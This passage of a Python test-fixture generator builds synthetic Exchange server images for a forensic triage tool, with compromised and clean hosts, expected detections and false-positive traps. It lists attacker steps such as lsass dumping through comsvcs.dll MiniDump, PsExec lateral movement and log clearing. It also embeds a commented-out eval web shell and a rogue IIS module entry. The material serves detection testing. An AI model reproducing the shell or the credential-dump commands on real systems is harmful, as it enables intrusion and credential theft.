        tree.write_bytes("Windows/System32/Tasks/" + path, data, trace)


def ex16_usn_journal(h: Host) -> None:
    """The change journal, as KAPE and Velociraptor name a copied $J: a web shell created and deleted (host_artifacts.py)."""
    h.tree.write_bytes("$Extend/$UsnJrnl%3A$J", host_artifacts.usn_journal(),
                       Trace("C09", "USN journal: inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\healthcheck.aspx FILE_CREATE "
                                    "06:58:10, FILE_DELETE 07:12:44 (14 min); benign WER dump, Windows Update cab and ASP.NET "
                                    "compile temp files created and deleted too (must not fire)", "T1505.003, T1070.004", T_LIKELY))


def ex16_event_log_traces(h: Host) -> None:
    """Trace rows for the event logs (written by the Swift EVTX writer, kept by this script)."""
    tree = h.tree
    # Event logs (*.evtx) are written by the Swift EVTX writer (Tests/TestSupport/SampleEventLogs.swift,
    # `UPDATE_SAMPLES=1 swift test --filter SampleEventLogTests`); this script keeps them.
    logs = "Windows/System32/winevt/Logs"
    for rel, record, trace in [
        ("Security.evtx", 48213, Trace("C15", "4688 w3wp.exe -> cmd.exe with the China Chopper wrapper (whoami)", "T1505.003", T_CONFIRMED)),
        ("Security.evtx", 48214, Trace("C13", "4688 w3wp.exe -> cmd.exe: comsvcs.dll MiniDump 624 C:\\root\\lsass.dmp", "T1003.001", T_CONFIRMED)),
        ("Security.evtx", 48216, Trace("C18", "4624 type 3 NTLM key length 0 Administrator from WKS042 10.0.0.42 (PtH trait)", "T1550.002", T_INFO)),
        ("Security.evtx", 48218, Trace("C17", "5145 ADMIN$ PSEXESVC.exe written (0x2) from 10.0.0.42", "T1021.002", T_LIKELY)),
        ("Security.evtx", 48219, Trace("C16", "4697 service PSEXESVC installed", "T1569.002", T_LIKELY)),
        ("Security.evtx", 48220, Trace("C17", "5145 IPC$ PSEXESVC-WKS042-5012-stdin", "T1021.002", T_LIKELY)),
        ("Security.evtx", 48223, Trace("C13", "4688 rundll32 comsvcs.dll MiniDump 624 C:\\windows\\temp\\debug01.tmp", "T1003.001", T_CONFIRMED)),
        ("Security.evtx", 48224, Trace("C14", "4688 7z a -t7z -p... C:\\ProgramData\\it.7z", "T1560.001", T_LIKELY)),
        ("Security.evtx", 48225, Trace("C16", "4688 PsExec64 \\\\EXCH02 onward (4648 at 48226)", "T1021.002", T_LIKELY)),
        ("Microsoft-Windows-Sysmon%4Operational.evtx", 90552, Trace("C13", "Sysmon 10 rundll32 -> lsass.exe 0x1FFFFF, CallTrace through comsvcs.dll", "T1003.001", T_CONFIRMED)),
        ("System.evtx", 12401, Trace("C16", "7045 PSEXESVC %SystemRoot%\\PSEXESVC.exe", "T1569.002", T_LIKELY)),
        ("System.evtx", 12403, Trace("C01", "104 'Windows PowerShell' log cleared by CORP\\Administrator", "T1070.001", T_LIKELY)),
    ]:
        tree.add_trace(f"{logs}/{rel}", record, trace)


def ex16_build_and_coverage_notes(h: Host) -> None:
    """Informational context the analyzer should also produce."""
    tree, srv = h.tree, h.srv
    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/Ecp/HttpProxy_2021030305-1.LOG", 2,
                   Trace("C02", "#Version: 15.01.2176.002 = Exchange 2016 CU19 without the March 2021 SU (fixed: 15.1.2176.9): vulnerable",
                         "all four ProxyLogon CVEs", T_INFO))
    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/", None,
                   Trace("C01", "HttpProxy coverage 2021-03-03T05:00Z-09:59Z only (older hours aged out); IIS W3SVC1 from 2021-03-02T00:00Z",
                         "T1070 (context)", T_INFO))
    tree.add_trace(f"{srv.exch_rel}/Logging/ECP/Server/ECPServer20210303-1.LOG", 2,
                   Trace("C02", "ECP logs really write the placeholder #Version: 15.0.0.0; the build comes from S:BLD=15.1.2176.2",
                         "-", T_NONE + " as a build"))
    tree.add_trace("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", None,
                   Trace("C09", "zero-byte git placeholder that keeps the empty stock folder (see README)", "-", T_NONE))


# The compromised host, in the order the functions run (web requests are numbered in this order).
EX16_ACTIVITY = (
    ex16_everyday_traffic, ex16_admin_work, ex16_scanner_autodiscover_ssrf, ex16_scanner_nmap_probe,
    ex16_proxylogon_chain, ex16_oab_dump_written, ex16_ews_via_backend_cookie, ex16_oab_shell_use,
    ex16_discover_shell_use, ex16_owa_shell_use, ex16_shell_name_probes, ex16_iis_restart, ex16_oab_generation,
)
EX16_DISK = (
    ex16_stock_server_files, ex16_planted_web_shells, ex16_compiled_shell_residue,
    ex16_dumps_staging_lateral_files, ex16_benign_temp_files, ex16_console_history, ex16_registry_and_prefetch, ex16_usn_journal,
)
EX16_NOTES = (ex16_event_log_traces, ex16_build_and_coverage_notes)


def make_compromised(root: pathlib.Path) -> Tree:
    srv = exch01()
    return build_host(root, srv, exch01_layout(srv), EX16_ACTIVITY, EX16_DISK, EX16_NOTES)


# --------------------------------------------------------------------------------------
# Image 2: EXCH19, Exchange 2019 CU12 + Nov 2022 SU, clean, non-default install path
# --------------------------------------------------------------------------------------

CHROME108 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/108.0.0.0 Safari/537.36")
OUTLOOK19 = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15831; Pro)"
ADMIN_CANARY_19 = "Fq8nW2xK5zR1tY7pL3mC9vB0hD4gJ6sA2eU8iO5oP1qS7tV3wX9zY4bN0mC6lA2kH8jG."


def exch19() -> Server:
    srv = Server(
        short="EXCH19", fqdn="exch19.corp.local", ip="10.0.0.19", ext_host="mail.corp.example",
        dom="corp.local", netbios="CORP", domain_sid="S-1-5-21-1004336348-1177238915-682003330",
        build=(15, 2, 1118, 20), exch_rel="Exchange/V15", exch_win=r"C:\Exchange\V15",
        folders={"Autodiscover": "Autodiscover", "Eas": "Eas", "Ecp": "Ecp", "Ews": "Ews",
                 "Mapi": "Mapi", "Oab": "OAB", "Owa": "OWA", "PowerShell": "PowerShell"},
        health="HealthMailbox41b7c0e9a3d24f56b8e1c7a9d0f3e2b4",
        health_guid="7e1c3a5d-9b2f-4d6e-8a0c-1e3f5b7d9a2c",
        oab_guid="b4d6f8a0-2c4e-4a6c-8e0a-4c6e8a0c2e4a",
        oab_vdir_guid="e2a4c6e8-0a2c-4e6a-9c2e-6a8c0e2a4c6e",
        users={}, rng=random.Random(20221207), os_build="5.1.17763.3770")
    srv.users = {
        "jdoe": User("jdoe", 1108, "10.0.1.25", CHROME108, OUTLOOK19, "8b2c4e6a-1d3f-4a5b-9c7e-0f1a2b3c4d5e"),
        "msmith": User("msmith", 1112, "10.0.1.31",
                       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.1 Safari/605.1.15",
                       "MacOutlook/16.67.22111300 (Intelx64 Mac OS X 13.0.1 (Build 22A400))",
                       "2e4f6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a7c"),
        "akhan": User("akhan", 1125, "10.0.2.14",
                      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Edg/108.0.1462.42",
                      OUTLOOK19, "5a7c9e1b-3d5f-4b7a-9c1e-3f5a7b9d1e3f"),
        "lchen": User("lchen", 1131, "100.64.12.9", "", "Apple-iPhone14C2/2002.96",
                      "9c1e3a5b-7d9f-4c1e-8b3d-5f7a9c1e3b5d"),
        "exadmin": User("exadmin", 1105, "10.0.0.50", CHROME108, OUTLOOK19, "1f3b5d7a-9c2e-4f6a-8d0b-2c4e6a8b0d1f"),
    }
    return srv


def exch19_layout(srv: Server) -> LogLayout:
    logging = f"{srv.exch_rel}/Logging"
    days = [dt.date(2022, 12, 6), dt.date(2022, 12, 7)]
    return LogLayout(
        hp_hours=[d(2022, 12, 7, h) for h in range(8, 12)], iis_days=days, be_days=days, lower_ext=set(),
        # ECPServer...log in lower case, on purpose.
        ecp_server=(f"{logging}/ECP/Server/ECPServer20221207-1.log", d(2022, 12, 7, 0, 0, 41, 19)),
        ecp_activity=(f"{logging}/ECP/Activity/ECPActivity_9104_20221207-1.LOG", d(2022, 12, 7, 0, 0, 41, 2)),
        oab=(f"{logging}/OABGeneratorLog/OABGenerator_20221207-1.LOG", d(2022, 12, 7, 0, 9, 12, 310)),
        oab_pid=3388, oab_name="\\Default Offline Address Book (Ex2019)",
        rps=(f"{logging}/CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2022120709-1.LOG", d(2022, 12, 7, 9, 2, 7, 415)),
        rps_pid=5120, ecp_one_off_usid_first=False)


def ex19_everyday_traffic(h: Host) -> None:
    """Health probes and users, 2022-12-06 00:00 .. 2022-12-07 11:55."""
    srv = h.srv
    h.reqs += ordinary_traffic(srv, d(2022, 12, 6, 0), d(2022, 12, 7, 11, 55))
    inbox_rules = ("/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary="
                   "Tk4mW9pR2xV7yB1nC5hL8sD0gF3jA6eQ2uI9oZ4xV1cB7nM0lK5jH2gF8dS3aP6qW.")
    h.ecp.append(EcpRow(d(2022, 12, 7, 0, 0, 41, 88), 198, None, "Get-InboxRule", inbox_rules))
    h.activity.append((d(2022, 12, 7, 0, 0, 41, 92), f"{srv.health}@{srv.dom}", f"https://localhost:444{inbox_rules}", None))
    hmb = f"{srv.netbios}\\{srv.health}"
    for t in (d(2022, 12, 7, 9, 2, 7, 415), d(2022, 12, 7, 9, 32, 44, 610)):
        h.rps.append((t, hmb, srv.sid(1151), False, "ActiveMonitor", "Get-Mailbox", '-ResultSize "1"'))
    h.httperr += [
        "2022-12-06 02:41:17 10.0.1.25 50412 10.0.0.19 443 - - - - - - Timer_ConnectionIdle -",
        "2022-12-06 14:08:55 10.0.2.14 51207 10.0.0.19 443 - - - - - - Timer_ConnectionIdle -",
        "2022-12-07 08:15:02 100.64.12.9 40993 10.0.0.19 443 HTTP/1.1 POST /Microsoft-Server-ActiveSync/default.eas?Cmd=Ping&User=lchen&DeviceId=ApplF2LXK0CQN1P4&DeviceType=iPhone - - 1 Connection_Dropped MSExchangeSyncAppPool",
    ]


def ex19_admin_oab_vdir_change(h: Host) -> None:
    """CORP\\exadmin, 09:05-10:23: Remote PowerShell, then an ordinary Set-OabVirtualDirectory with
    ExternalUrl='https://mail.corp.example/OAB' through ECP (no Reset schema): must not fire."""
    srv = h.srv
    adm = srv.users["exadmin"]
    ecp_reqs = admin_ecp(srv, adm, d(2022, 12, 7, 10, 21, 4, 118), ADMIN_CANARY_19)
    # Benign OAB vdir change by a named admin through ECP: a normal https URL.
    ecp_reqs.append(Req(end=d(2022, 12, 7, 10, 23, 40, 662), proto="Ecp", method="POST",
                        stem="/ecp/DDI/DDIService.svc/SetObject",
                        query=f"schema=OABVirtualDirectory&msExchEcpCanary={ADMIN_CANARY_19}",
                        host=srv.fqdn, cip=adm.ip, ua=CHROME108, iis_user="CORP\\exadmin",
                        auth_type="FBA", is_auth=True, auth_user="CORP\\exadmin",
                        anchor=f"Sid~{srv.sid(1105)}", routing_hint="EcpOwaCookie-Sid", latency=1204,
                        proxy_trace=Trace("C05/C06", "benign admin SetObject schema=OABVirtualDirectory (authenticated, Sid~ anchor)",
                                          "-", T_NONE),
                        be_trace=Trace("C06", "benign W3SVC2 SetObject schema=OABVirtualDirectory by CORP\\exadmin (no Reset, no $)",
                                       "-", T_NONE)))
    h.reqs += ecp_reqs
    h.reqs += [admin_ps(srv, adm, d(2022, 12, 7, 9, 5, 51, 300), "Get-ExchangeServer:Command"),
               admin_ps(srv, adm, d(2022, 12, 7, 9, 6, 3, 18), "Get-MailboxDatabase:Command")]
    sess = h.ecp_session("admin")
    getlist = f"/ecp/DDI/DDIService.svc/GetList?schema=MailboxService&msExchEcpCanary={ADMIN_CANARY_19}"
    setobj = f"/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={ADMIN_CANARY_19}"
    h.ecp += [
        EcpRow(d(2022, 12, 7, 10, 21, 7, 240), 588, sess, "Get-Mailbox.ResultSize='500'.RecipientTypeDetails='UserMailbox'", getlist),
        EcpRow(d(2022, 12, 7, 10, 21, 7, 402), 37, sess, "Pipeline.1|Get-MailboxRegionalConfiguration", getlist),
        EcpRow(d(2022, 12, 7, 10, 23, 40, 540), 1102, sess,
               f"Set-OabVirtualDirectory.ExternalUrl='https://{srv.ext_host}/OAB'.Identity='{srv.oab_vdir_guid}'", setobj, "",
               Trace("C05", "benign Set-OabVirtualDirectory with an absolute https ExternalUrl by CORP\\exadmin", "-", T_NONE)),
        EcpRow(d(2022, 12, 7, 10, 23, 40, 611), 12, sess,
               f"Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='{srv.oab_vdir_guid}'", setobj),
    ]
    be = f"https://{srv.fqdn}:444"
    h.activity += [
        (d(2022, 12, 7, 10, 21, 4, 110), f"exadmin@{srv.dom}", f"{be}/ecp/", None),
        (d(2022, 12, 7, 10, 21, 7, 410), f"exadmin@{srv.dom}", f"{be}{getlist}", None),
        (d(2022, 12, 7, 10, 23, 40, 650), f"exadmin@{srv.dom}", f"{be}{setobj}", None),
    ]
    ex = f"{srv.netbios}\\exadmin"
    h.rps += [
        (d(2022, 12, 7, 9, 5, 51, 281), ex, srv.sid(1105), True, "ManagementShell", "Get-ExchangeServer", ""),
        (d(2022, 12, 7, 9, 6, 2, 997), ex, srv.sid(1105), True, "ManagementShell", "Get-MailboxDatabase", '-Status "True"'),
    ]


def ex19_outlook_rest_autodiscover(h: Host) -> None:
    """09:31: Outlook's REST autodiscover (autodiscover.json with '@' in the path but no /powershell): FP trap."""
    srv = h.srv
    u = srv.users["jdoe"]
    h.reqs.append(Req(end=d(2022, 12, 7, 9, 31, 17, 402), proto="Autodiscover", method="GET",
                      stem=f"/autodiscover/autodiscover.json/v1.0/jdoe@{srv.dom}",
                      query="Protocol=ActiveSync&RedirectCount=1", host=srv.ext_host, cip=u.ip,
                      ua="Outlook-iOS/709.2226530.prod.iphone (4.2247.0)", auth_type="", is_auth=False,
                      anchor=f"Smtp~jdoe@{srv.dom}", routing_hint="AutodiscoverJsonSmtp", latency=22,
                      iis_trace=Trace("§4.1/§4.2", "benign autodiscover.json request with '@' but no /powershell, /mapi/nspi, /EWS or X-Rps-CAT",
                                      "-", T_NONE)))


def ex19_oab_generation(h: Host) -> None:
    """OAB generator runs at 00:09 and 08:09, with a failed download that stays inside
    C:\\Exchange\\V15\\ClientAccess\\OAB\\Temp (non-default install): must not fire."""
    srv = h.srv
    oabn = h.layout.oab_name
    tmp = f"{srv.exch_win}\\ClientAccess\\OAB\\Temp"
    h.oab += [
        (d(2022, 12, 7, 0, 9, 12, 318), "Info", "OABGeneratorAssistant",
         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 87.", None),
        (d(2022, 12, 7, 0, 9, 30, 733), "Info", "OABGenerator",
         f"Created temporary file '{tmp}\\qXbWtrpLmza.lzx' for the differential download.", None),
        (d(2022, 12, 7, 0, 9, 41, 27), "Warning", "OABFileHandler",
         f"Download failed and temporary file '{tmp}\\RkTbvnqZsdo.djs' needs to be removed",
         Trace("C07", "benign: temporary file inside C:\\Exchange\\V15\\ClientAccess\\OAB\\Temp (non-default install; CSS-Exchange #320, #495)",
               "CVE-2021-26858", T_NONE)),
        (d(2022, 12, 7, 0, 10, 2, 904), "Info", "OABGeneratorAssistant",
         f"OAB generation for '{oabn}' completed: sequence 88, 1 full, 1 differential, 57 recipients.", None),
        (d(2022, 12, 7, 8, 9, 11, 557), "Info", "OABGeneratorAssistant",
         f"Starting OAB generation for '{oabn}' (version 4), previous sequence 88.", None),
        (d(2022, 12, 7, 8, 9, 38, 210), "Info", "OABGeneratorAssistant",
         f"OAB generation for '{oabn}' completed: no changes, sequence 88 kept.", None),
    ]


def ex19_stock_server_files(h: Host) -> None:
    """IIS configuration (literal C:\\Exchange\\V15 paths), web folders, wwwroot, a deep vendor archive."""
    tree, srv = h.tree, h.srv
    tree.write_text("Windows/System32/inetsrv/config/applicationHost.config",
                    application_host_config(srv, "C:\\Exchange\\V15\\"))
    web_folders(tree, srv, "15.2.1118", "EWS", "TimeoutLogoff.aspx")
    wwwroot(tree)
    tree.write_bytes("ProgramData/AppRecovery/Config/configuration.zip",
                     vendor_zip({"configuration.xml": "<?xml version=\"1.0\"?>\r\n<!-- EXTRIAGE SYNTHETIC SAMPLE - benign vendor backup -->\r\n<Configuration><Agent Port=\"8006\"/></Configuration>\r\n"}),
                     Trace("C14", "benign deep vendor archive ProgramData\\AppRecovery\\Config\\configuration.zip (CSS-Exchange #328)",
                           "-", T_INFO + " (listed only)"))


def ex19_benign_files(h: Host) -> None:
    """Defender log, the admin's console history (Add-PSSnapin), registry placeholders."""
    tree, srv = h.tree, h.srv
    tree.write_text("Windows/Temp/MpSigStub.log",
                    "EXTRIAGE SYNTHETIC SAMPLE - benign\n"
                    "------------------------------------------------------------\n"
                    "Product Version: 4.18.2210.6 Service: MpSigStub.exe Start Time: Tue Dec 06 2022 03:02:19\n"
                    "Status: 0x00000000\n")
    hist = LogFile()
    for text in ["Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn",
                 "Get-ExchangeServer | Format-List Name,AdminDisplayVersion",
                 f"Get-OabVirtualDirectory -Server {srv.short} | Format-List InternalUrl,ExternalUrl",
                 "Get-MailboxDatabaseCopyStatus", "exit"]:
        hist.add(text, Trace("C15", "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn by an admin", "T1059.001", T_INFO)
                 if text.startswith("Add-PSSnapin") else None)
    tree.write_log("Users/Administrator/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", hist)
    tree.write_bytes("Windows/System32/config/SYSTEM", regf_placeholder("SYSTEM", d(2022, 12, 7, 11, 50)))
    tree.write_bytes("Windows/System32/config/SOFTWARE", regf_placeholder("SOFTWARE", d(2022, 12, 7, 11, 51)))


def ex19_event_log_traces(h: Host) -> None:
    """Must-not-fire trace rows for the benign event logs (Swift writer)."""
    tree = h.tree
    # Event logs: benign only (Tests/TestSupport/SampleEventLogs.swift); traps below.
    for rel, record, what in [
        ("Security.evtx", 221908, "4688 w3wp.exe -> csc.exe: ASP.NET compiling a page, not a shell"),
        ("System.evtx", 40017, "7045 MSExchangeDiagnostics from C:\\Exchange\\V15\\Bin: an Exchange service install"),
        ("MSExchange Management.evtx", 5120, "Set-OabVirtualDirectory -ExternalUrl https://mail.corp.example/OAB by exadmin"),
    ]:
        tree.add_trace(f"Windows/System32/winevt/Logs/{rel}", record, Trace("C15/C16", what, "-", T_NONE))


def ex19_build_and_coverage_notes(h: Host) -> None:
    """The empty stock folder, ECP's placeholder version, coverage and build."""
    tree, srv = h.tree, h.srv
    tree.add_trace("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", None,
                   Trace("C09", "zero-byte git placeholder that keeps the empty stock folder (see README)", "-", T_NONE))
    tree.add_trace(f"{srv.exch_rel}/Logging/ECP/Server/ECPServer20221207-1.log", 2,
                   Trace("C02", "ECP logs really write the placeholder #Version: 15.0.0.0; the build comes from S:BLD=15.2.1118.20",
                         "-", T_NONE + " as a build"))
    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/", None,
                   Trace("C01", "coverage 2022-12-06/07 only: the 2021 ProxyLogon window is not covered, so those CVE states are 'not assessable'",
                         "-", T_INFO))
    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/Ecp/HttpProxy_2022120708-1.LOG", 2,
                   Trace("C02", "#Version: 15.02.1118.020 = Exchange 2019 CU12 + Nov 2022 SU: patched for ProxyLogon, ProxyShell, ProxyNotShell and OWASSRF",
                         "-", T_INFO))


# The clean host, in the order the functions run.
EX19_ACTIVITY = (ex19_everyday_traffic, ex19_admin_oab_vdir_change, ex19_outlook_rest_autodiscover, ex19_oab_generation)
EX19_DISK = (ex19_stock_server_files, ex19_benign_files)
EX19_NOTES = (ex19_event_log_traces, ex19_build_and_coverage_notes)


def make_clean(root: pathlib.Path) -> Tree:
    srv = exch19()
    return build_host(root, srv, exch19_layout(srv), EX19_ACTIVITY, EX19_DISK, EX19_NOTES)


# --------------------------------------------------------------------------------------
# Image 3: MBX02, Exchange 2019 CU9 never updated: ProxyShell in 2021, OWASSRF in 2022
# --------------------------------------------------------------------------------------

PS_ATTACKER_IP = "203.0.113.77"
PS_UA = "python-requests/2.26.0"
PS_SHELL = "bzxrq.aspx"      # the PST-headed shell written by New-MailboxExportRequest
PS_SHELL_UNC = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\" + PS_SHELL
PS_CAT = ("VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhBZG1pbmlzdHJhdG9yQGNvcnAubG9jYWxVLFMtMS01LTIxLTEwMDQzMzYzNDgtMTE3"
          "NzIzODkxNS02ODIwMDMzMzAtNTAwRwEAAAAHAAAADFMtMS01LTMyLTU0NEUAAAAA")
OWASSRF_IP = "198.51.100.99"
OWASSRF_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/105.0.5195.54 Safari/537.36")
PNS_PROBE_IP = "192.0.2.91"
PS_SCANNER_IP = "192.0.2.140"
CHROME92 = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/92.0.4515.131 Safari/537.36")

# IIS 10's own native modules and Exchange's (exppw, kerbauth), then one that is neither: its image
# sits outside inetsrv under a name made to look like IIS's (the SessionManager / Owowa pattern).
MICROSOFT_NATIVE_MODULES = [
    ("UriCacheModule", "%windir%\\System32\\inetsrv\\cachuri.dll"),
    ("FileCacheModule", "%windir%\\System32\\inetsrv\\cachfile.dll"),
    ("TokenCacheModule", "%windir%\\System32\\inetsrv\\cachtokn.dll"),
    ("HttpCacheModule", "%windir%\\System32\\inetsrv\\cachhttp.dll"),
    ("DynamicCompressionModule", "%windir%\\System32\\inetsrv\\compdyn.dll"),
    ("StaticCompressionModule", "%windir%\\System32\\inetsrv\\compstat.dll"),
    ("DefaultDocumentModule", "%windir%\\System32\\inetsrv\\defdoc.dll"),
    ("DirectoryListingModule", "%windir%\\System32\\inetsrv\\dirlist.dll"),
    ("ProtocolSupportModule", "%windir%\\System32\\inetsrv\\protsup.dll"),
    ("HttpRedirectionModule", "%windir%\\System32\\inetsrv\\redirect.dll"),
    ("StaticFileModule", "%windir%\\System32\\inetsrv\\static.dll"),
    ("AnonymousAuthenticationModule", "%windir%\\System32\\inetsrv\\authanon.dll"),
    ("BasicAuthenticationModule", "%windir%\\System32\\inetsrv\\authbas.dll"),
    ("WindowsAuthenticationModule", "%windir%\\System32\\inetsrv\\authsspi.dll"),
    ("DigestAuthenticationModule", "%windir%\\System32\\inetsrv\\authmd5.dll"),
    ("UrlAuthorizationModule", "%windir%\\System32\\inetsrv\\urlauthz.dll"),
    ("IpRestrictionModule", "%windir%\\System32\\inetsrv\\iprestr.dll"),
    ("RequestFilteringModule", "%windir%\\System32\\inetsrv\\modrqflt.dll"),
    ("CustomErrorModule", "%windir%\\System32\\inetsrv\\custerr.dll"),
    ("HttpLoggingModule", "%windir%\\System32\\inetsrv\\loghttp.dll"),
    ("RequestMonitorModule", "%windir%\\System32\\inetsrv\\iisreqs.dll"),
    ("IsapiModule", "%windir%\\System32\\inetsrv\\isapi.dll"),
    ("IsapiFilterModule", "%windir%\\System32\\inetsrv\\filter.dll"),
    ("ConfigurationValidationModule", "%windir%\\System32\\inetsrv\\validcfg.dll"),
    ("ApplicationInitializationModule", "%windir%\\System32\\inetsrv\\warmup.dll"),
    ("WebSocketModule", "%windir%\\System32\\inetsrv\\iis_ws.dll"),
    ("FailedRequestsTracingModule", "%windir%\\System32\\inetsrv\\iisfreb.dll"),
    ("RewriteModule", "%SystemRoot%\\system32\\inetsrv\\rewrite.dll"),
    ("ManagedEngineV4.0_64bit", "%windir%\\Microsoft.NET\\Framework64\\v4.0.30319\\webengine4.dll"),
    ("exppw", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\Owa\\auth\\exppw.dll"),
    ("kerbauth", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Bin\\kerbauth.dll"),
]
ROGUE_NATIVE_MODULE = ("IsapiCacheModule", "C:\\ProgramData\\Microsoft\\Windows\\Caches\\iiscache.dll")


def agents_config(exch_win: str) -> str:
    """TransportRoles/Shared/agents.config: Microsoft's agents, then one that is not Microsoft's."""
    agents = [
        ("Transport Rule Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
         "Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.TransportRuleAgentFactory",
         "TransportRoles\\agents\\Rule\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.dll"),
        ("DLP Policy Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
         "Microsoft.Exchange.MessagingPolicies.Rules.DlpPolicyAgentFactory",
         "TransportRoles\\agents\\Rule\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent.dll"),
        ("Malware Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
         "Microsoft.Exchange.Transport.Agent.Malware.MalwareAgentFactory",
         "TransportRoles\\agents\\Antimalware\\Microsoft.Exchange.Transport.Agent.Malware.dll"),
        ("Text Messaging Routing Agent", "Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory",
         "Microsoft.Exchange.MessagingPolicies.Transport.Agents.TextMessagingRoutingAgentFactory",
         "TransportRoles\\agents\\SMS\\Microsoft.Exchange.MessagingPolicies.TextMessagingRoutingAgent.dll"),
        ("Content Filter Agent", "Microsoft.Exchange.Data.Transport.Smtp.SmtpReceiveAgentFactory",
         "Microsoft.Exchange.Transport.Agent.ContentFilter.ContentFilterAgentFactory",
         "TransportRoles\\agents\\Hygiene\\Microsoft.Exchange.Transport.Agent.Hygiene.dll"),
        ("System Probe Drop Smtp Agent", "Microsoft.Exchange.Data.Transport.Smtp.SmtpReceiveAgentFactory",
         "Microsoft.Exchange.Transport.Agent.SystemProbeDrop.SystemProbeDropSmtpAgentFactory",
         "TransportRoles\\agents\\SystemProbeDrop\\Microsoft.Exchange.Transport.Agent.SystemProbeDrop.dll"),
    ]
    lines = ['<?xml version="1.0" encoding="utf-8"?>',
             "<!-- EXTRIAGE SYNTHETIC SAMPLE - trimmed agents.config of MBX02 -->",
             "<configuration>", "  <mexRuntime>", "    <monitoring>",
             '      <agentExecution timeLimitInMilliseconds="90000" />',
             '      <messageSnapshot enabled="true" path="" />', "    </monitoring>", "    <agentList>"]
    for name, base, factory, rel in agents:
        lines.append(f'      <agent name="{name}" baseType="{base}" classFactory="{factory}" '
                     f'assemblyPath="{exch_win}\\{rel}" enabled="true" />')
    lines.append('      <agent name="Transport Compliance Agent" baseType="Microsoft.Exchange.Data.Transport.Routing.RoutingAgentFactory" '
                 'classFactory="Microsoft.Exchange.Transport.Agent.Compliance.ComplianceAgentFactory" '
                 'assemblyPath="C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Microsoft.Exchange.Transport.Agent.Compliance.dll" '
                 'enabled="true" />')
    lines += ["    </agentList>", "    <settings />", "  </mexRuntime>", "</configuration>", ""]
    return "\n".join(lines)


def pst_headed_shell(key: str) -> bytes:
    """What New-MailboxExportRequest leaves at an .aspx path: a PST (magic !BDN, a made-up header and
    blocks) whose attachment bytes, after PST's own encoding, read as a page. Inert: the script sits
    inside an ASP.NET server-side comment, which IIS discards."""
    rng = random.Random(20210813)
    header = b"!BDN" + struct.pack("<I", 0x4D53) + b"SM" + struct.pack("<HHBB", 23, 19, 0x01, 0x01) + bytes(rng.getrandbits(8) for _ in range(496))
    page = ("<%-- " + INERT_BANNER + ": the script below never runs --%>"
            '<%-- <script language="JScript" runat="server">function Page_Load(){eval(Request["' + key + '"],"unsafe");}</script> --%>')
    body = bytes(rng.getrandbits(8) for _ in range(1536)) + page.encode() + bytes(rng.getrandbits(8) for _ in range(1024))
    return header + body


def mbx02() -> Server:
    srv = Server(
        short="MBX02", fqdn="mbx02.corp.local", ip="10.0.0.22", ext_host="mail.corp.example",
        dom="corp.local", netbios="CORP", domain_sid="S-1-5-21-1004336348-1177238915-682003330",
        build=(15, 2, 858, 5),
        exch_rel="Program Files/Microsoft/Exchange Server/V15",
        exch_win=r"C:\Program Files\Microsoft\Exchange Server\V15",
        folders={"Autodiscover": "Autodiscover", "Eas": "Eas", "Ecp": "Ecp", "Ews": "Ews",
                 "Mapi": "Mapi", "Oab": "Oab", "Owa": "Owa", "PowerShell": "PowerShell"},
        health="HealthMailbox9f2e4c6a8b0d4e1f9a3c5e7b9d1f3a5c",
        health_guid="4a6c8e0a-2c4e-4a6c-9e0a-2c4e6a8c0e2a",
        oab_guid="c8e0a2c4-6e8a-4c0e-8a2c-4e6a8c0e2a4c",
        oab_vdir_guid="0a2c4e6a-8c0e-4a2c-9e6a-8c0e2a4c6e8a",
        users={}, rng=random.Random(20210813), os_build="5.1.17763.2028",
        builds_from=[(d(2021, 3, 20), (15, 2, 858, 5)), (d(2021, 10, 2), (15, 2, 986, 5))])
    srv.users = {
        "jdoe": User("jdoe", 1108, "10.0.1.25", CHROME92, OUTLOOK19, "8b2c4e6a-1d3f-4a5b-9c7e-0f1a2b3c4d5e"),
        "msmith": User("msmith", 1112, "10.0.1.31",
                       "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1.2 Safari/605.1.15",
